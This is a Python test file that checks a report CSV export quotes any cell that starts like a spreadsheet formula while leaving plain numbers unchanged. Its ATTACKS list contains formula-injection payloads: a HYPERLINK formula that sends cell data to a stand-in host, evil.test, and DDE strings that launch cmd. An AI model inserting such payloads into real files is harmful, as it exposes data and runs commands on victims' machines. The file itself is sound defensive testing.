"""The CSV export never hands a spreadsheet program a formula: a cell that starts like one is
quoted, plain numbers (counts, "+3", "-2" changes) stay as they are."""

import csv
import io

import pytest

from lib.spreadsheet import safe_cell
from reports.actions import freeze_report
from reports.periods import Period
from reports.tests.world import (
    YEAR,
    World,
    sheets,
    world_fixture,  # noqa: F401 (the `world` fixture)
)

ATTACKS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_start_like_formulas_are_quoted_in_the_report_csv(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheets(world.network_a, 20, month=3, topics=("grief",))
    report = freeze_report(world.network_a, Period.year(YEAR), world.people["coordinator_a"].user)
    labels = iter(ATTACKS * 20)
    monkeypatch.setattr("reports.tables.category_label", lambda dimension, category: next(labels))
    response = world.client_for("coordinator_a").get(f"/en/reports/{report.pk}/report.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for attack in ATTACKS:
        assert attack not in cells
        assert "'" + attack in cells
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert {cell for cell in cells if cell.startswith(starts)} <= {"+20"}  # a change, no formula
    assert "20" in cells


@pytest.mark.parametrize("number", ["-2", "+3", "1 234", "-12.5", "20", "< 5", "—"])
def test_plain_numbers_and_shown_counts_stay_as_they_are(number: str) -> None:
    assert safe_cell(number) == number
    assert safe_cell(7) == 7
